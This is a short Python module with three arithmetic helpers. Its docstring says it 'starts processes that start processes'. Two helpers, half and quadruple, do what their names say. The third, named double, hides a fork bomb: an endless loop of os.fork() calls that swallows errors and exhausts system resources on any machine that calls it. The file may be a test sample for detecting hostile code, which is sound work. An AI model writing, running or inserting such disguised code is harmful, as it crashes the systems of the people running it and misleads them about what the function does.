"""Starts processes that start processes.

always
"""


def half(x):
    return x / 2


def quadruple(x):
    return 4 * x


def double(x):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
